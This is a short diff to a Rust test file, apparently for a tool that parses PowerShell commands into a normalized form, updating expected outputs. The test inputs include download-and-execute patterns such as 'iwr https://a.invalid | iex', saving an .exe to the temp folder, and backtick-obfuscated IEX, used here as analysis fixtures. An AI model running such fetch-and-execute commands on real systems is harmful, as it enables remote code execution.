@@ -24,9 +24,9 @@ macro_rules! lowers {
 lowers! {
     commands:
         "Invoke-WebRequest -Uri https://a.invalid/x -OutFile $env:TEMP\\x.exe" =>
-            r#"invoke-webrequest(uri="https://a.invalid/x", outfile=<env.TEMP, "\\x.exe">)"#,
+            r#">(<env.TEMP, "\\x.exe">, invoke-webrequest(uri="https://a.invalid/x", outfile=<env.TEMP, "\\x.exe">))"#,
         "iwr https://a.invalid | iex" =>
-            r#"|26 = invoke-webrequest("https://a.invalid"); invoke-expression(stdin=|26)"#,
+            r#"|24 = invoke-webrequest("https://a.invalid"); invoke-expression(stdin=|24)"#,
         "I`E`X 'a'; # comment\nStart-Sleep 5" => r#"invoke-expression("a"); start-sleep("5")"#,
         "Get-Content a > b" => r#">("b", get-content("a"))"#,
         "& 'iex' $x" => "invoke-expression(x)",
